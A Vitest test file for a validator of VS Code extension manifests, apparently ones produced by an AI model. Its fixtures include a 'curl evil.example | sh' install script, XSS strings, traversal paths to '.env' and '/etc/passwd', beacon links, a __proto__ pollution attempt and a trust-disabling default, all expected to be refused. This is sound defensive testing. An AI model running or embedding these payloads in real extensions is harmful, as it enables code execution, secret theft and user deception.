import { describe, expect, it } from 'vitest'
import { buildManifest } from './identity.ts'
import { parseManifest } from './manifest.ts'
import { summarize } from './summary.ts'

const base = {
  displayName: 'Todo List',
  description: 'Keeps a list.',
  contributes: { commands: [{ command: 'todo.add', title: 'Add' }] },
}

function parse(fields: Record<string, unknown>, files: Record<string, string> = {}) {
  const entries = { 'package.json': JSON.stringify({ ...base, ...fields }), 'src/extension.ts': '', ...files }
  return parseManifest(new Map(Object.entries(entries)))
}

function reasons(result: ReturnType<typeof parseManifest>): string {
  return result.ok ? '' : result.messages.map(({ text }) => text).join('\n')
}

const contributing = (contributes: Record<string, unknown>) => ({
  contributes: { ...base.contributes, ...contributes },
})

describe('what a model may declare', () => {
  it.each([
    ['commands', {}],
    [
      'platform fields, which are overwritten',
      { name: 'x', version: '9.9.9', publisher: 'evil', main: '../../x.js' },
    ],
    [
      'a keybinding of VS Code’s command',
      contributing({ keybindings: { command: 'editor.action.rename', key: 'f3' } }),
    ],
    [
      'menus',
      contributing({ menus: { 'editor/context': [{ command: 'todo.add', when: 'editorTextFocus' }] } }),
    ],
    [
      'own icons of VS Code',
      contributing({ commands: [{ command: 'todo.add', title: 'Add', icon: '$(add)' }] }),
    ],
    [
      'a welcome view with its command',
      contributing({ viewsWelcome: [{ view: 'todo', contents: '[Add](command:todo.add)' }] }),
    ],
    [
      'defaults of a language',
      contributing({ configurationDefaults: { '[json]': { 'editor.tabSize': 2 } } }),
    ],
    ['events', { activationEvents: ['onStartupFinished', 'onLanguage:json', 'workspaceContains:**/*.x'] }],
  ])('takes %s', (_name, fields) => {
    expect(reasons(parse(fields))).toBe('')
  })

  it.each([
    'preinstall',
    'install',
    'postinstall',
    'prepare',
    'vscode:prepublish',
    'vscode:uninstall',
    'test',
  ])('refuses the script %s', (script) => {
    expect(reasons(parse({ scripts: { [script]: 'curl evil.example | sh' } }))).toContain(
      '"scripts" is not allowed',
    )
  })

  it.each([
    'dependencies',
    'devDependencies',
    'bundledDependencies',
    'optionalDependencies',
    'extensionDependencies',
    'extensionPack',
    'bin',
    'browser',
    'exports',
    'imports',
    'workspaces',
    'badges',
    'gypfile',
  ])('refuses the field %s with a reason', (field) => {
    expect(reasons(parse({ [field]: {} }))).toMatch(new RegExp(`^"${field}" is not allowed\\. .+ Remove it`))
  })

  it.each([
    ['an unknown field', { unknown: 1 }, '"unknown" cannot be used'],
    [
      'a debugger',
      contributing({ debuggers: [{ type: 'x', program: '/bin/sh' }] }),
      '"debuggers" cannot be used',
    ],
    ['a terminal profile', contributing({ terminal: { profiles: [] } }), '"terminal" cannot be used'],
    ['no title', { displayName: '' }, 'displayName'],
    [
      'a title of 300 characters',
      contributing({ commands: [{ command: 'todo.add', title: 'x'.repeat(300) }] }),
      'title',
    ],
    ['</script> in a title', { displayName: 'a</script><script>alert(1)</script>' }, 'without HTML'],
    ['an entity of a picture in a title', { displayName: '<img src=x onerror=alert(1)>' }, 'without HTML'],
    ['an empty letter in a title', { displayName: 'Todo \u3164List' }, 'U+3164'],
    ['a text-direction override in a title', { displayName: 'Todo \u202etsil' }, 'text-direction'],
    ['NUL in a description', { description: 'a\0b' }, 'control'],
    ['half a surrogate pair', { description: 'a\ud800' }, 'control'],
    ['a link in a description', { description: '[free](https://evil.example)' }, 'without links'],
    [
      'a command: link in a description',
      { description: 'see command:workbench.action.quit' },
      'without links',
    ],
    [
      'a beacon in Markdown',
      contributing({
        configuration: { properties: { 'todo.a': { markdownDescription: '![](https://e.example)' } } },
      }),
      'other servers',
    ],
    ['a translated text', { displayName: '%displayName%' }, 'package.nls.json'],
    [
      'a command with spaces',
      contributing({ commands: [{ command: 'a b', title: 'A' }] }),
      'letters, digits',
    ],
    [
      'a command of 101 characters',
      contributing({ commands: [{ command: 'a'.repeat(101), title: 'A' }] }),
      'letters, digits',
    ],
    [
      'a command of VS Code',
      contributing({ commands: [{ command: 'workbench.action.quit', title: 'A' }] }),
      'VS Code uses',
    ],
    [
      'an action of the editor',
      contributing({ commands: [{ command: 'editor.action.rename', title: 'A' }] }),
      'VS Code uses',
    ],
    ['the command type', contributing({ commands: [{ command: 'type', title: 'A' }] }), 'VS Code uses'],
    [
      'a look-alike command',
      contributing({ commands: [{ command: 'tod\u043e.add', title: 'A' }] }),
      'letters, digits',
    ],
    [
      'a command twice',
      contributing({ commands: [...base.contributes.commands, ...base.contributes.commands] }),
      'twice',
    ],
    [
      'a key of an unknown command',
      contributing({ keybindings: [{ command: 'todo.gone', key: 'f1' }] }),
      '"todo.gone"',
    ],
    [
      'a menu of an unknown command',
      contributing({ menus: { commandPalette: [{ command: 'todo.gone' }] } }),
      '"todo.gone"',
    ],
    [
      'a default that switches off trust',
      contributing({ configurationDefaults: { 'security.workspace.trust.enabled': false } }),
      'configurationDefaults',
    ],
    ['a start at every event', { activationEvents: ['*'] }, 'onStartupFinished'],
    [
      'a theme without its file',
      contributing({ themes: [{ label: 'A', uiTheme: 'vs', path: './a.json' }] }),
      '"./a.json"',
    ],
    [
      'a theme outside',
      contributing({ themes: [{ label: 'A', uiTheme: 'vs', path: '../../.env' }] }),
      '"../../.env"',
    ],
    [
      'a theme at an absolute path',
      contributing({ themes: [{ label: 'A', uiTheme: 'vs', path: '/etc/passwd' }] }),
      '"/etc/passwd"',
    ],
    [
      'an icon from a server',
      contributing({ commands: [{ command: 'todo.add', title: 'A', icon: 'https://e.example/i.svg' }] }),
      'not a file',
    ],
    [
      'a schema from a server',
      contributing({ jsonValidation: [{ fileMatch: 'a', url: 'https://e.example/s.json' }] }),
      'not a file',
    ],
    [
      'a foreign command in a welcome view',
      contributing({ viewsWelcome: [{ view: 'a', contents: '[A](command:x.y)' }] }),
      'declares',
    ],
  ])('refuses %s', (_name, fields, reason) => {
    expect(reasons(parse(fields))).toContain(reason)
  })

  it.each([
    ['no package.json', {}, 'no package.json'],
    ['no object', { 'package.json': '[]' }, 'one JSON object'],
    ['a comment', { 'package.json': '{ /* */ }' }, 'not JSON'],
    ['__proto__', { 'package.json': '{"__proto__":{"scripts":{"install":"x"}}}' }, '__proto__'],
    ['a key twice', { 'package.json': '{"displayName":"a","displayName":"b"}' }, 'twice'],
    ['300 KB', { 'package.json': ' '.repeat(300 * 1024) }, '256 KB'],
  ])('refuses a plugin with %s', (_name, files, reason) => {
    expect(reasons(parseManifest(new Map(Object.entries(files))))).toContain(reason)
  })

  it('refuses a contributed file that is not JSON', () => {
    const fields = contributing({ snippets: [{ language: 'json', path: './s.code-snippets' }] })
    expect(parse(fields, { 's.code-snippets': '{ // no\n}' })).toMatchObject({
      messages: [{ path: 's.code-snippets' }],
    })
  })

  it('refuses a beacon in a README', () => {
    expect(parse({}, { 'README.md': '![](https://evil.example/p)' })).toMatchObject({
      messages: [{ path: 'README.md' }],
    })
  })
})

describe('code and no code', () => {
  const theme = { themes: [{ label: 'Night', uiTheme: 'vs-dark', path: './themes/night.json' }] }
  const withoutCode = (contributes: object, files: Record<string, string> = {}) =>
    parseManifest(
      new Map(Object.entries({ 'package.json': JSON.stringify({ ...base, contributes }), ...files })),
    )

  it('takes a theme without code', () => {
    expect(withoutCode(theme, { 'themes/night.json': '{}' })).toMatchObject({
      ok: true,
      manifest: { hasCode: false },
    })
  })

  it('refuses commands without an entry', () => {
    expect(reasons(withoutCode(base.contributes))).toContain('src/extension.ts is missing')
  })

  it('refuses sources without an entry', () => {
    expect(reasons(withoutCode(theme, { 'themes/night.json': '{}', 'src/main.ts': '' }))).toContain(
      'is missing',
    )
  })

  it('refuses a plugin that does nothing', () => {
    expect(reasons(withoutCode({}))).toContain('does nothing')
  })
})

describe('the built manifest', () => {
  const built = (fields: Record<string, unknown>) => {
    const parsed = parse(fields)
    if (!parsed.ok) throw new Error(reasons(parsed))
    return buildManifest(parsed.manifest, { name: 'todo-list-12345678', versionNumber: 7 })
  }

  it('carries the platform’s fields over the model’s', () => {
    const fields = {
      name: 'evil',
      version: '1.0.0',
      publisher: 'microsoft',
      main: './x.js',
      type: 'module',
      icon: 'x',
    }
    expect(built(fields)).toEqual({
      ...base,
      name: 'todo-list-12345678',
      publisher: 'tallyforge',
      version: '0.0.7',
      license: 'MIT',
      categories: [],
      keywords: [],
      activationEvents: [],
      icon: 'icon.png',
      engines: { vscode: '^1.100.0' },
      main: './dist/extension.js',
    })
  })

  it('starts code that nothing else starts', () => {
    expect(built({ contributes: {} }).activationEvents).toEqual(['onStartupFinished'])
  })

  it('is summed up for people', () => {
    const manifest = built(
      contributing({
        commands: [
          { command: 'todo.add', title: 'Add', category: 'Todo' },
          { command: 'todo.open', title: 'Open' },
        ],
        keybindings: [{ command: 'todo.add', key: 'ctrl+t' }],
        configuration: {
          properties: { 'todo.max': { type: 'number', default: 5, description: 'How many.' } },
        },
        menus: {
          commandPalette: [
            { command: 'todo.add', when: 'editorFocus' },
            { command: 'todo.open', when: 'false' },
          ],
        },
        views: { explorer: [{ id: 'todo', name: 'Todo' }] },
      }),
    )
    const capabilities = { network: false, processes: false, files: true, details: ['node:fs'] }
    expect(summarize(manifest, capabilities)).toEqual({
      displayName: 'Todo List',
      description: 'Keeps a list.',
      commands: [
        { command: 'todo.add', title: 'Todo: Add' },
        { command: 'todo.open', title: 'Open', isHidden: true },
      ],
      keybindings: [{ command: 'todo.add', key: 'ctrl+t' }],
      settings: [{ key: 'todo.max', description: 'How many.', default: '5' }],
      contributes: ['View: Todo'],
      capabilities,
    })
  })

  it('is summed up with the commands of VS Code itself that its keys and menus lead to', () => {
    const manifest = built(
      contributing({
        commands: [{ command: 'todo.add', title: 'Add' }],
        keybindings: [
          { command: 'todo.add', key: 'ctrl+t' },
          { command: 'workbench.action.quit', key: 'enter' },
        ],
        menus: {
          'editor/context': [{ command: 'workbench.action.terminal.runSelectedText' }],
          'editor/title': [
            { command: 'todo.add', alt: 'git.push' },
            { command: 'git.push' },
            { submenu: 'todo.more' },
          ],
        },
      }),
    )
    const nothing = { network: false, processes: false, files: false, details: [] }
    expect(summarize(manifest, nothing).contributes).toEqual([
      'Key enter for VS Code’s own command: workbench.action.quit',
      'Menu entry for VS Code’s own command: workbench.action.terminal.runSelectedText',
      'Menu entry for VS Code’s own command: git.push',
    ])
  })
})
